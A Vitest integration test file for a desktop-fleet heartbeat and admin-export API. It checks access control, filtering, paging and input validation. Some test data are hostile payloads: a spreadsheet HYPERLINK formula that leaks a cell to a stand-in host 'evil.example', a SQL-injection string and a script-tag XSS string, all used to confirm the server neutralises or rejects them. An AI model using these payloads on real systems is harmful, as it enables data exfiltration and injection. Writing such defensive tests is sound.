// The desktop fleet on a real server (PostgreSQL and PGlite): a heartbeat upserts one row
// per install id with the session's user and that user's site; admins list it filtered,
// sorted and paged, count it per version and export it as CSV that a spreadsheet cannot
// run; nobody else may read it; a heartbeat is never audited; bad bodies are refused.
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { beforeAll, expect, it } from 'vitest';
import { type FleetPage, type FleetVersions } from '../../../src/shared/fleet.js';
import { type DesktopHeartbeat } from '../../../src/shared/updates.js';
import { forEachDatabase } from '../helpers/databases.js';
import { useTestServer } from '../helpers/server.js';

function heartbeat(over: Partial<DesktopHeartbeat> = {}): DesktopHeartbeat {
  return {
    installId: randomUUID(), machineName: 'JKT-CC-PC-017', os: 'windows', osVersion: 'Windows 11 Pro 10.0.22631',
    appVersion: '1.4.2', electronVersion: '45.5.0', chromeVersion: '142.0.7444.52',
    updateState: null, cacheBytes: 123_456_789, lastSyncAt: '2026-12-02T01:00:00.000Z', ...over,
  };
}

forEachDatabase('desktop fleet', (engine) => {
  const t = useTestServer(engine, { seedDemo: { customers: 1, interactionsMean: 0 } });
  let admin = '';
  let agent = '';
  let lead = '';

  const beat = (token: string, body: unknown) =>
    t.current.api('/devices/heartbeat', { method: 'POST', token, body: typeof body === 'string' ? body : JSON.stringify(body) });
  const list = async (query = '') => {
    const res = await t.current.api(`/admin/fleet${query ? `?${query}` : ''}`, { token: admin });
    expect(res.status, `${query}: ${res.text}`).toBe(200);
    return res.body as FleetPage;
  };
  /** Places a desktop as if it had last been heard from `secondsAgo` ago. */
  const seenAgo = (installId: string, secondsAgo: number) => t.current.server.db.query(
    `UPDATE desktops SET last_seen_at = now() - make_interval(secs => $2) WHERE install_id = $1`, [installId, secondsAgo]);

  beforeAll(async () => {
    const db = t.current.server.db;
    await db.query(`INSERT INTO sites (code, name) VALUES ('jkt', 'Jakarta')`);
    await db.query(`INSERT INTO branches (code, name, site_code) VALUES ('Jakarta Pusat', 'Jakarta Pusat', 'jkt')`);
    [admin, agent, lead] = await Promise.all([
      t.current.login('admin1', 'admin1-pass'), t.current.login('agent1', 'agent1-pass'), t.current.login('lead1', 'lead1-pass'),
    ]);
  });

  it('a heartbeat registers the desktop with the signed-in user and their site; the next one updates the same row', async () => {
    const first = heartbeat({ machineName: 'JKT-CC-PC-001' });
    expect((await beat(agent, first)).status).toBe(200);
    const [registered] = (await list(`machine=JKT-CC-PC-001`)).desktops;
    expect(registered).toMatchObject({
      installId: first.installId, machineName: 'JKT-CC-PC-001', os: 'windows', appVersion: '1.4.2', electronVersion: '45.5.0',
      chromeVersion: '142.0.7444.52', username: 'agent1', displayName: 'Sari Wulandari', siteCode: 'jkt', ring: null,
      cacheBytes: 123_456_789, lastSyncAt: '2026-12-02T01:00:00.000Z', updateState: null,
    });
    await seenAgo(first.installId, 300);

    const updateState = {
      phase: 'downloading' as const, version: '1.5.0', percent: 37.5, source: 'mirror.jkt.example', at: '2026-12-02T01:05:00.000Z',
    };
    expect((await beat(agent, { ...first, appVersion: '1.4.3', updateState, cacheBytes: 5 })).status).toBe(200);
    const page = await list(`machine=JKT-CC-PC-001`);
    expect(page.total).toBe(1);
    const [updated] = page.desktops;
    expect(updated).toMatchObject({ appVersion: '1.4.3', updateState, cacheBytes: 5, registeredAt: registered?.registeredAt });
    // Last seen was put five minutes back; the beat brought it to now.
    expect(Math.abs(Date.parse(updated?.lastSeenAt ?? '') - Date.parse(page.now))).toBeLessThan(60_000);
  });

  it('a user without a site-bound branch is recorded with no site; whoever signs in last is the one named', async () => {
    const desktop = heartbeat({ machineName: 'SBY-PC-1' });
    const agent2 = await t.current.login('agent2', 'agent2-pass'); // branch Surabaya: no branches row
    expect((await beat(agent2, desktop)).status).toBe(200);
    expect((await list('machine=SBY-PC-1')).desktops[0]).toMatchObject({ username: 'agent2', siteCode: null });
    expect((await beat(lead, desktop)).status).toBe(200);
    expect((await list('machine=SBY-PC-1')).desktops[0]).toMatchObject({ username: 'lead1', siteCode: 'jkt' });
  });

  it('a heartbeat is never audited', async () => {
    const count = async () => Number((await t.current.server.db.query<{ n: string }>('SELECT count(*) AS n FROM audit_log'))[0]?.n);
    const before = await count();
    const desktop = heartbeat();
    for (let i = 0; i < 5; i++) expect((await beat(agent, desktop)).status).toBe(200);
    expect(await count()).toBe(before);
  });

  it('filters by version, site, last seen, user, machine name and ring; sorts; pages with a total', async () => {
    const tag = `F${randomUUID().slice(0, 6)}`;
    const make = async (name: string, token: string, version: string, secondsAgo: number) => {
      const d = heartbeat({ machineName: `${tag}-${name}`, appVersion: version });
      expect((await beat(token, d)).status).toBe(200);
      await seenAgo(d.installId, secondsAgo);
      return d.installId;
    };
    const online = await make('Alpha', agent, '9.0.0', 10);
    const recent = await make('bravo', lead, '9.0.0', 3_600);
    const stale = await make('Charlie', admin, '9.1.0', 3 * 86_400);
    const q = (more: string) => list(`machine=${tag}&${more}`);

    expect((await q('lastSeen=online')).desktops.map((d) => d.installId)).toEqual([online]);
    expect((await q('lastSeen=recent')).desktops.map((d) => d.installId)).toEqual([recent]);
    expect((await q('lastSeen=stale')).desktops.map((d) => d.installId)).toEqual([stale]);
    expect((await q('appVersion=9.0.0')).desktops.map((d) => d.installId)).toEqual([online, recent]); // newest first
    expect((await q('user=lead1')).desktops.map((d) => d.installId)).toEqual([recent]);
    // agent1 and lead1 work in Jakarta Pusat (site jkt); admin1 has no branch.
    expect((await q('site=jkt')).desktops.map((d) => d.installId)).toEqual([online, recent]);
    expect((await q('ring=pilot')).desktops).toEqual([]); // no ring exists here; rings: tests/integration/server/releases-feed.test.ts
    expect((await q('sort=machineName')).desktops.map((d) => d.machineName)).toEqual([`${tag}-Alpha`, `${tag}-bravo`, `${tag}-Charlie`]);
    expect((await q('sort=machineName&order=desc')).desktops.map((d) => d.installId)).toEqual([stale, recent, online]);
    expect((await list(`machine=${tag.toLowerCase()}-ALPHA`)).total).toBe(1); // case-insensitive

    const first = await q('sort=machineName&limit=2');
    const second = await q('sort=machineName&limit=2&offset=2');
    expect(first.total).toBe(3);
    expect(first.desktops).toHaveLength(2);
    expect(second.desktops.map((d) => d.installId)).toEqual([stale]);
    expect(Math.abs(Date.parse(first.now) - Date.now())).toBeLessThan(60_000);
  });

  it('a machine-name search with SQL wildcards or quotes is matched literally', async () => {
    for (const machine of ['%', '_', "' OR 1=1 --"]) {
      expect((await list(`machine=${encodeURIComponent(machine)}`)).desktops, machine).toEqual([]);
    }
  });

  it('refuses bad filters with 400', async () => {
    for (const bad of ['lastSeen=yesterday', 'sort=password', 'order=up', 'limit=0', 'limit=201', 'offset=-1', 'nonsense=1',
      `machine=${'x'.repeat(121)}`, 'appVersion=']) {
      const res = await t.current.api(`/admin/fleet?${bad}`, { token: admin });
      expect(res.status, bad).toBe(400);
      expect(res.body, bad).toMatchObject({ code: 'INVALID_INPUT' });
    }
  });

  it('counts desktops per version, and how many of them are online', async () => {
    const version = `7.${Date.now()}`;
    const a = heartbeat({ appVersion: version });
    const b = heartbeat({ appVersion: version });
    expect((await beat(agent, a)).status).toBe(200);
    expect((await beat(agent, b)).status).toBe(200);
    await seenAgo(b.installId, 86_400);
    const res = await t.current.api('/admin/fleet/versions', { token: admin });
    expect(res.status).toBe(200);
    const { versions } = res.body as FleetVersions;
    expect(versions.find((v) => v.appVersion === version)).toEqual({ appVersion: version, desktops: 2, online: 1 });
    const total = versions.reduce((n, v) => n + v.desktops, 0);
    expect(total).toBe((await list()).total);
  });

  it('exports CSV with the update state, audited, with a formula in a machine name neutralised', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const d = heartbeat({
      machineName: evil, appVersion: '6.6.6',
      updateState: { phase: 'failed', version: '6.7.0', error: '@SUM(1+1) sha512 mismatch', source: 'sapa.example', at: '2026-12-02T01:00:00.000Z' },
    });
    expect((await beat(agent, d)).status).toBe(200);
    const res = await t.current.api('/admin/fleet.csv?appVersion=6.6.6', { token: admin });
    expect(res.status).toBe(200);
    const rows = parse(res.text) as string[][];
    const header = rows[0] ?? [];
    expect(header.slice(0, 5)).toEqual(['installId', 'machineName', 'os', 'osVersion', 'appVersion']);
    expect(rows).toHaveLength(2);
    const cell = (name: string) => rows[1]?.[header.indexOf(name)];
    expect(cell('machineName')).toBe(`'${evil}`);
    expect(cell('updateError')).toBe("'@SUM(1+1) sha512 mismatch");
    expect([cell('updatePhase'), cell('updateVersion'), cell('updateSource'), cell('username')]).toEqual(['failed', '6.7.0', 'sapa.example', 'agent1']);
    const audited = await t.current.server.db.query<{ action: string }>(
      `SELECT action FROM audit_log WHERE action = 'fleet.export'`);
    expect(audited.length).toBeGreaterThanOrEqual(1);
  });

  it('only admins read the fleet; a heartbeat needs a session', async () => {
    for (const token of [agent, lead]) {
      for (const path of ['/admin/fleet', '/admin/fleet/versions', '/admin/fleet.csv']) {
        const res = await t.current.api(path, { token });
        expect(res.status, path).toBe(403);
        expect(res.body, path).toMatchObject({ code: 'FORBIDDEN' });
      }
    }
    const anonymous = await t.current.api('/devices/heartbeat', { method: 'POST', body: JSON.stringify(heartbeat()) });
    expect(anonymous.status).toBe(401);
  });

  it('refuses malformed, oversized and nasty heartbeats with a clear 400 (413 past the body limit), and stores none', async () => {
    const before = (await list()).total;
    const bad: [string, unknown][] = [
      ['not JSON', '{"installId": '],
      ['empty', {}],
      ['array', [heartbeat()]],
      ['install id not a uuid', heartbeat({ installId: 'PC-17' })],
      ['unknown OS', { ...heartbeat(), os: 'amiga' }],
      ['empty machine name', heartbeat({ machineName: '' })],
      ['machine name too long', heartbeat({ machineName: 'x'.repeat(121) })],
      ['machine name of 10 000 characters', heartbeat({ machineName: 'x'.repeat(10_000) })],
      ['NUL in machine name', heartbeat({ machineName: 'PC\u0000-1' })],
      ['NUL in update error', heartbeat({ updateState: { phase: 'failed', error: 'x\u0000', at: '2026-12-02T01:00:00.000Z' } })],
      ['negative cache size', heartbeat({ cacheBytes: -1 })],
      ['cache size not an integer', heartbeat({ cacheBytes: 1.5 })],
      ['percent over 100', heartbeat({ updateState: { phase: 'downloading', percent: 101, at: '2026-12-02T01:00:00.000Z' } })],
      ['unknown update phase', { ...heartbeat(), updateState: { phase: 'exploded', at: '2026-12-02T01:00:00.000Z' } }],
      ['last sync not a time', { ...heartbeat(), lastSyncAt: 'yesterday' }],
    ];
    for (const [what, body] of bad) {
      const res = await beat(agent, body);
      expect(res.status, what).toBe(400);
      expect(res.body, what).toMatchObject({ code: 'INVALID_INPUT' });
    }
    const huge = await beat(agent, { ...heartbeat(), padding: 'x'.repeat(100_000) });
    expect(huge.status).toBe(413);
    expect(huge.body).toMatchObject({ code: 'TOO_LARGE' });
    expect((await list()).total).toBe(before);
  });

  it('keeps unicode and markup in a machine name as text', async () => {
    const name = 'PC-Budi-测试-🙂 <script>alert(1)</script>';
    const d = heartbeat({ machineName: name });
    expect((await beat(agent, d)).status).toBe(200);
    const [row] = (await list(`machine=${encodeURIComponent('测试-🙂')}`)).desktops;
    expect(row?.machineName).toBe(name);
  });
});
